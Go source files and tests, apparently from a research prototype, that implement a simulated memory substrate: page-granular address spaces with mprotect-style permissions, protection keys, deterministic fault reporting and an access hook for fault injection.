	if err != nil || string(got) != "weights" {
		t.Fatalf("read = %q, %v", got, err)
	}
}

func TestKeyDeniesRead(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	_ = s.SetKey(r, 5)
	_ = s.SetKeyAccess(5, false, false)
	if _, err := s.Load(r.Base, 1); err == nil {
		t.Fatal("key with read denied should fault loads")
	}
	// Re-enabling the domain restores access (the WRPKRU gate).
	_ = s.SetKeyAccess(5, true, true)
	if _, err := s.Load(r.Base, 1); err != nil {
		t.Fatalf("re-enabled domain: %v", err)
	}
}

func TestKeyAccessQueries(t *testing.T) {
	s := NewSpace()
	_ = s.SetKeyAccess(2, true, false)
	rd, wr := s.KeyAccess(2)
	if !rd || wr {
		t.Fatalf("KeyAccess = %v, %v", rd, wr)
	}
	rd, wr = s.KeyAccess(9) // untouched key defaults to full access
	if !rd || !wr {
		t.Fatalf("default KeyAccess = %v, %v", rd, wr)
	}
}

func TestKeyValidation(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	if err := s.SetKey(r, MaxKey+1); err == nil {
		t.Fatal("key > MaxKey should fail")
	}
	if err := s.SetKey(Region{Base: 1 << 24, Size: PageSize}, 1); err == nil {
		t.Fatal("key on unmapped page should fail")
	}
	if err := s.SetKey(Region{Base: r.Base, Size: 0}, 1); err == nil {
		t.Fatal("empty region should fail")
	}
	if err := s.SetKeyAccess(MaxKey+1, true, true); err == nil {
		t.Fatal("access for key > MaxKey should fail")
	}
	if _, ok := s.KeyAt(1 << 24); ok {
		t.Fatal("KeyAt of unmapped address should report !ok")
	}
}

func TestKeyPerPageGranularity(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize * 2)
	// Tag only the first page.
	_ = s.SetKey(Region{Base: r.Base, Size: PageSize}, 4)
	_ = s.SetKeyAccess(4, true, false)
	if err := s.Store(r.Base, []byte{1}); err == nil {
		t.Fatal("first page should be write-protected")
	}
	if err := s.Store(r.Base+PageSize, []byte{1}); err != nil {
		t.Fatalf("second page should be writable: %v", err)
	}
}

func TestKeyOrthogonalToPagePerms(t *testing.T) {
	// A read-only page in a fully-enabled domain still denies writes: keys
	// only ever subtract access.
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	_, _ = s.ProtectRegion(r, PermRead)
	_ = s.SetKey(r, 1)
	_ = s.SetKeyAccess(1, true, true)
	if err := s.Store(r.Base, []byte{1}); err == nil {
		t.Fatal("page permission must still apply")
	}
}

func TestKeyReassignOverlappingRegion(t *testing.T) {
	// Re-tagging an overlapping region moves its pages wholesale into the
	// new domain: the last SetKey wins per page, with no residue of the old
	// key (the pkey_mprotect semantics the domain boundary relies on when a
	// result object is tagged after its argument pages were).
	s := NewSpace()
	r, _ := s.Alloc(PageSize * 3)
	if err := s.SetKey(r, 2); err != nil {
		t.Fatal(err)
	}
	// Overlap: re-tag the middle page only.
	mid := Region{Base: r.Base + PageSize, Size: PageSize}
	if err := s.SetKey(mid, 7); err != nil {
		t.Fatal(err)
	}
	for i, want := range []Key{2, 7, 2} {
		if k, ok := s.KeyAt(r.Base + Addr(i*PageSize)); !ok || k != want {
			t.Fatalf("page %d key = %d, %v; want %d", i, k, ok, want)
		}
	}
	// Revoking the old key leaves the re-tagged page untouched.
	_ = s.SetKeyAccess(2, false, false)
	if err := s.Store(mid.Base, []byte{1}); err != nil {
		t.Fatalf("re-tagged page must follow its new key: %v", err)
	}
	if err := s.Store(r.Base, []byte{1}); err == nil {
		t.Fatal("old-key page must fault once key 2 is revoked")
	}
}

func TestKeyFaultFieldsDeterministic(t *testing.T) {
	// A key-denied access surfaces as a *Fault with fully deterministic
	// fields: page-aligned address, the attempted access kind, the page's
	// (still permissive) permission, and Mapped=true. Replay logs compare
	// these bytes, so they must not vary run to run.
	s := NewSpace()
	r, _ := s.Alloc(PageSize * 2)
	_ = s.SetKey(r, 6)
	_ = s.SetKeyAccess(6, false, false)
	// Fault on the second page, at an unaligned offset.
	addr := r.Base + PageSize + 123
	_, err := s.Load(addr, 1)
	f, ok := IsFault(err)
	if !ok {
		t.Fatalf("want *Fault, got %v", err)
	}
	want := Fault{Space: f.Space, Addr: r.Base + PageSize, Kind: AccessRead, Perm: PermRW, Mapped: true}
	if *f != want {
		t.Fatalf("fault = %+v, want %+v", *f, want)
	}
	// Byte-equal across repetitions, and the write kind is reported as such.
	for i := 0; i < 3; i++ {
		_, err2 := s.Load(addr, 1)
		f2, _ := IsFault(err2)
		if f2 == nil || *f2 != *f || f2.Error() != f.Error() {
			t.Fatalf("fault not deterministic: %+v vs %+v", f2, f)
		}
	}
	serr := s.Store(addr, []byte{1})
	if sf, ok := IsFault(serr); !ok || sf.Kind != AccessWrite || sf.Addr != r.Base+PageSize {
		t.Fatalf("store fault = %+v", serr)
	}
}

func TestKeyRoundTripProperty(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	f := func(kRaw uint8, allowRead, allowWrite bool) bool {
		k := Key(kRaw%15) + 1 // 1..15
		if err := s.SetKey(r, k); err != nil {
			return false
		}
		if err := s.SetKeyAccess(k, allowRead, allowWrite); err != nil {
			return false
		}
		_, lerr := s.Load(r.Base, 1)
		serr := s.Store(r.Base, []byte{1})
		// Restore for the next iteration.
		_ = s.SetKeyAccess(k, true, true)
		return (lerr == nil) == allowRead && (serr == nil) == allowWrite
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}
