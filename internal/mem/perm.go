// Package mem implements the simulated memory substrate: page-granular
// address spaces with enforceable access permissions.
//
// FreePart's temporal data protection relies on mprotect(2)-style page
// permissions. The Go runtime cannot tolerate mprotect on its own heap (the
// garbage collector scans and moves memory), so this package provides a
// software MMU instead: every framework buffer lives inside an AddressSpace
// and every access goes through Load/Store, which check the page table and
// raise a Fault on violation — exactly the behaviour a hardware page fault
// would have under the paper's prototype.
package mem

import "strings"

// Perm is a page permission bitmask.
type Perm uint8

// Permission bits, mirroring PROT_READ/PROT_WRITE/PROT_EXEC.
const (
	PermNone Perm = 0
	PermRead Perm = 1 << iota
	PermWrite
	PermExec
)

// PermRW is the default permission for freshly allocated data pages.
const PermRW = PermRead | PermWrite

// CanRead reports whether the permission allows loads.
func (p Perm) CanRead() bool { return p&PermRead != 0 }

// CanWrite reports whether the permission allows stores.
func (p Perm) CanWrite() bool { return p&PermWrite != 0 }

// CanExec reports whether the permission allows instruction fetch.
func (p Perm) CanExec() bool { return p&PermExec != 0 }

// String renders the permission in ls -l style, e.g. "rw-" or "r-x".
func (p Perm) String() string {
	var b strings.Builder
	if p.CanRead() {
		b.WriteByte('r')
	} else {
		b.WriteByte('-')
	}
	if p.CanWrite() {
		b.WriteByte('w')
	} else {
		b.WriteByte('-')
	}
	if p.CanExec() {
		b.WriteByte('x')
	} else {
		b.WriteByte('-')
	}
	return b.String()
}
