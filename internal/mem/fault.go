package mem

import (
	"errors"
	"fmt"
)

// AccessKind identifies the operation that triggered a fault.
type AccessKind uint8

// Access kinds.
const (
	AccessRead AccessKind = iota
	AccessWrite
	AccessExec
)

// String names the access kind.
func (k AccessKind) String() string {
	switch k {
	case AccessRead:
		return "read"
	case AccessWrite:
		return "write"
	case AccessExec:
		return "exec"
	default:
		return fmt.Sprintf("access(%d)", uint8(k))
	}
}

// Fault is a memory protection violation: the simulated equivalent of a
// SIGSEGV delivered on a page-permission violation or unmapped access.
type Fault struct {
	// Space is the id of the address space in which the fault occurred.
	Space SpaceID
	// Addr is the faulting virtual address.
	Addr Addr
	// Kind is the attempted access.
	Kind AccessKind
	// Perm is the permission of the page at the time of the fault;
	// meaningful only when Mapped is true.
	Perm Perm
	// Mapped reports whether the address was mapped at all.
	Mapped bool
}

// Error implements the error interface.
func (f *Fault) Error() string {
	if !f.Mapped {
		return fmt.Sprintf("memory fault: %s of unmapped address %#x in space %d", f.Kind, uint64(f.Addr), f.Space)
	}
	return fmt.Sprintf("memory fault: %s of address %#x in space %d (page perm %s)", f.Kind, uint64(f.Addr), f.Space, f.Perm)
}

// IsFault reports whether err is (or wraps) a memory Fault, returning it.
func IsFault(err error) (*Fault, bool) {
	var f *Fault
	if errors.As(err, &f) {
		return f, true
	}
	return nil, false
}

// ErrBadRange indicates a request spanning a non-allocated or invalid range.
var ErrBadRange = errors.New("mem: invalid address range")

// ErrOutOfMemory indicates the address space cannot satisfy an allocation.
var ErrOutOfMemory = errors.New("mem: out of memory")
