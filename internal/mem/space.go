package mem

import (
	"fmt"
	"sync"
	"sync/atomic"
)

// PageSize is the simulated page size in bytes.
const PageSize = 4096

// Addr is a virtual address within an AddressSpace.
type Addr uint64

// PageIndex returns the page number containing the address.
func (a Addr) PageIndex() uint64 { return uint64(a) / PageSize }

// SpaceID identifies an address space (one per simulated process).
type SpaceID uint32

var nextSpaceID atomic.Uint32

// Stats are access counters for an address space.
type Stats struct {
	Loads       uint64 // Load/LoadAt calls
	Stores      uint64 // Store/StoreAt calls
	BytesLoaded uint64
	BytesStored uint64
	Faults      uint64 // permission/unmapped violations raised
	Protects    uint64 // Protect calls
	PagesMapped uint64 // pages currently mapped
}

type page struct {
	data []byte // lazily allocated, PageSize long
	perm Perm
	key  Key // protection key (0 = default domain)
}

// AccessHook observes every checked access before the permission tables are
// consulted and may veto it by returning a non-nil error — the seam used by
// the chaos engine to raise spurious faults on otherwise-legal accesses.
// The hook runs with the space lock held and must not re-enter the space.
type AccessHook func(addr Addr, n int, kind AccessKind) error

// Region describes a contiguous allocated range.
type Region struct {
	Base Addr
	Size int
}

// End returns the first address past the region.
func (r Region) End() Addr { return r.Base + Addr(r.Size) }

// Contains reports whether addr falls inside the region.
func (r Region) Contains(addr Addr) bool { return addr >= r.Base && addr < r.End() }

// Overlaps reports whether the two regions share any address.
func (r Region) Overlaps(o Region) bool { return r.Base < o.End() && o.Base < r.End() }

// AddressSpace is a simulated per-process virtual address space with a
// page-granular permission table. The zero value is not usable; create
// spaces with NewSpace. AddressSpace is safe for concurrent use.
type AddressSpace struct {
	id SpaceID

	mu      sync.RWMutex
	pages   map[uint64]*page
	brk     Addr // bump-allocation cursor
	limit   Addr // allocation ceiling
	regions []Region
	freed   []Region // page-aligned spans returned by Free, reused first
	stats   Stats
	pkru    [MaxKey + 1]keyAccess
	hook    AccessHook
}

// DefaultLimit is the default per-space allocation ceiling (1 GiB of
// simulated memory), generous enough for every evaluation workload.
const DefaultLimit = Addr(1 << 30)

// baseAddr is the first allocatable address: page zero is kept unmapped so
// that nil-style pointers fault, as on a real OS.
const baseAddr = Addr(PageSize)

// NewSpace creates an empty address space with the default limit.
func NewSpace() *AddressSpace {
	return &AddressSpace{
		id:    SpaceID(nextSpaceID.Add(1)),
		pages: make(map[uint64]*page),
		brk:   baseAddr,
		limit: DefaultLimit,
	}
}

// ID returns the space's identifier.
func (s *AddressSpace) ID() SpaceID { return s.id }

// SetLimit adjusts the allocation ceiling. Lowering it below the current
// break has no effect on existing allocations.
func (s *AddressSpace) SetLimit(limit Addr) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.limit = limit
}

// Stats returns a snapshot of the access counters.
func (s *AddressSpace) Stats() Stats {
	s.mu.RLock()
	defer s.mu.RUnlock()
	st := s.stats
	st.PagesMapped = uint64(len(s.pages))
	return st
}

// roundUp rounds n up to the next multiple of PageSize.
func roundUp(n int) int {
	return (n + PageSize - 1) &^ (PageSize - 1)
}

// Alloc reserves size bytes of zeroed memory with PermRW and returns the
// region. Allocations are page-aligned so that Protect on a region never
// bleeds into a neighbouring allocation (matching how the paper protects
// whole buffers).
func (s *AddressSpace) Alloc(size int) (Region, error) {
	if size <= 0 {
		return Region{}, fmt.Errorf("%w: alloc size %d", ErrBadRange, size)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	span := Addr(roundUp(size))
	base, ok := s.takeFreed(span)
	if !ok {
		if s.brk+span > s.limit || s.brk+span < s.brk {
			return Region{}, ErrOutOfMemory
		}
		base = s.brk
		s.brk += span
	}
	for pi := base.PageIndex(); pi < (base + span).PageIndex(); pi++ {
		s.pages[pi] = &page{perm: PermRW}
	}
	r := Region{Base: base, Size: size}
	s.regions = append(s.regions, r)
	return r, nil
}

// takeFreed carves a span from the free list (first fit), under mu.
func (s *AddressSpace) takeFreed(span Addr) (Addr, bool) {
	for i, f := range s.freed {
		fspan := Addr(roundUp(f.Size))
		if fspan < span {
			continue
		}
		base := f.Base
		if fspan == span {
			s.freed = append(s.freed[:i], s.freed[i+1:]...)
		} else {
			s.freed[i] = Region{Base: f.Base + span, Size: int(fspan - span)}
		}
		return base, true
	}
	return 0, false
}

// Free unmaps the region's pages. Accessing a freed region faults.
func (s *AddressSpace) Free(r Region) error {
	if r.Size <= 0 {
		return fmt.Errorf("%w: free size %d", ErrBadRange, r.Size)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	span := Addr(roundUp(r.Size))
	for pi := r.Base.PageIndex(); pi < (r.Base + span).PageIndex(); pi++ {
		delete(s.pages, pi)
	}
	for i, reg := range s.regions {
		if reg.Base == r.Base {
			s.regions = append(s.regions[:i], s.regions[i+1:]...)
			break
		}
	}
	s.freed = append(s.freed, Region{Base: r.Base, Size: int(span)})
	return nil
}

// Regions returns the currently allocated regions in allocation order.
func (s *AddressSpace) Regions() []Region {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]Region, len(s.regions))
	copy(out, s.regions)
	return out
}

// RegionOf returns the allocated region containing addr, if any.
func (s *AddressSpace) RegionOf(addr Addr) (Region, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	for _, r := range s.regions {
		if r.Contains(addr) {
			return r, true
		}
	}
	return Region{}, false
}

// Protect changes the permission of every page overlapping [addr, addr+size)
// — the simulated mprotect. It returns the number of pages touched.
func (s *AddressSpace) Protect(addr Addr, size int, perm Perm) (int, error) {
	if size <= 0 {
		return 0, fmt.Errorf("%w: protect size %d", ErrBadRange, size)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	first := addr.PageIndex()
	last := (addr + Addr(size) - 1).PageIndex()
	n := 0
	for pi := first; pi <= last; pi++ {
		pg, ok := s.pages[pi]
		if !ok {
			return n, fmt.Errorf("%w: protect of unmapped page %#x", ErrBadRange, pi*PageSize)
		}
		pg.perm = perm
		n++
	}
	s.stats.Protects++
	return n, nil
}

// ProtectRegion applies Protect across an entire region.
func (s *AddressSpace) ProtectRegion(r Region, perm Perm) (int, error) {
	return s.Protect(r.Base, r.Size, perm)
}

// PermAt returns the permission of the page containing addr.
func (s *AddressSpace) PermAt(addr Addr) (Perm, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	pg, ok := s.pages[addr.PageIndex()]
	if !ok {
		return PermNone, false
	}
	return pg.perm, true
}

// SetAccessHook installs (or clears, with nil) the access hook.
func (s *AddressSpace) SetAccessHook(h AccessHook) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.hook = h
}

// check validates an access of n bytes at addr for the given kind, under mu.
func (s *AddressSpace) check(addr Addr, n int, kind AccessKind) error {
	if n <= 0 {
		return fmt.Errorf("%w: access size %d", ErrBadRange, n)
	}
	if s.hook != nil {
		if err := s.hook(addr, n, kind); err != nil {
			s.stats.Faults++
			return err
		}
	}
	first := addr.PageIndex()
	last := (addr + Addr(n) - 1).PageIndex()
	for pi := first; pi <= last; pi++ {
		pg, ok := s.pages[pi]
		if !ok {
			s.stats.Faults++
			return &Fault{Space: s.id, Addr: Addr(pi * PageSize), Kind: kind, Mapped: false}
		}
		allowed := false
		switch kind {
		case AccessRead:
			allowed = pg.perm.CanRead()
		case AccessWrite:
			allowed = pg.perm.CanWrite()
		case AccessExec:
			allowed = pg.perm.CanExec()
		}
		if allowed && !s.keyAllows(pg.key, kind) {
			allowed = false
		}
		if !allowed {
			s.stats.Faults++
			return &Fault{Space: s.id, Addr: Addr(pi * PageSize), Kind: kind, Perm: pg.perm, Mapped: true}
		}
	}
	return nil
}

// pageData returns the backing bytes for a page, allocating lazily.
func (pg *page) bytes() []byte {
	if pg.data == nil {
		pg.data = make([]byte, PageSize)
	}
	return pg.data
}

// Load copies n bytes starting at addr into a new slice, checking read
// permission on every page traversed.
func (s *AddressSpace) Load(addr Addr, n int) ([]byte, error) {
	buf := make([]byte, n)
	if err := s.LoadAt(addr, buf); err != nil {
		return nil, err
	}
	return buf, nil
}

// LoadAt fills buf from memory starting at addr.
func (s *AddressSpace) LoadAt(addr Addr, buf []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.check(addr, len(buf), AccessRead); err != nil {
		return err
	}
	s.stats.Loads++
	s.stats.BytesLoaded += uint64(len(buf))
	off := 0
	for off < len(buf) {
		a := addr + Addr(off)
		pg := s.pages[a.PageIndex()]
		po := int(uint64(a) % PageSize)
		n := copy(buf[off:], pg.bytes()[po:])
		off += n
	}
	return nil
}

// Store writes buf to memory starting at addr, checking write permission.
func (s *AddressSpace) Store(addr Addr, buf []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.check(addr, len(buf), AccessWrite); err != nil {
		return err
	}
	s.stats.Stores++
	s.stats.BytesStored += uint64(len(buf))
	off := 0
	for off < len(buf) {
		a := addr + Addr(off)
		pg := s.pages[a.PageIndex()]
		po := int(uint64(a) % PageSize)
		n := copy(pg.bytes()[po:], buf[off:])
		off += n
	}
	return nil
}

// LoadByte loads a single byte.
func (s *AddressSpace) LoadByte(addr Addr) (byte, error) {
	var b [1]byte
	if err := s.LoadAt(addr, b[:]); err != nil {
		return 0, err
	}
	return b[0], nil
}

// StoreByte stores a single byte.
func (s *AddressSpace) StoreByte(addr Addr, v byte) error {
	return s.Store(addr, []byte{v})
}

// Exec simulates an instruction fetch of n bytes at addr; it checks exec
// permission and returns the bytes (payload code in attack scenarios).
func (s *AddressSpace) Exec(addr Addr, n int) ([]byte, error) {
	s.mu.Lock()
	if err := s.check(addr, n, AccessExec); err != nil {
		s.mu.Unlock()
		return nil, err
	}
	s.mu.Unlock()
	return s.Load(addr, n)
}

// Copy transfers n bytes from (src, srcAddr) to (dst, dstAddr), enforcing
// read permission on the source and write permission on the destination —
// the primitive under every simulated IPC transfer.
func Copy(dst *AddressSpace, dstAddr Addr, src *AddressSpace, srcAddr Addr, n int) error {
	buf, err := src.Load(srcAddr, n)
	if err != nil {
		return err
	}
	return dst.Store(dstAddr, buf)
}
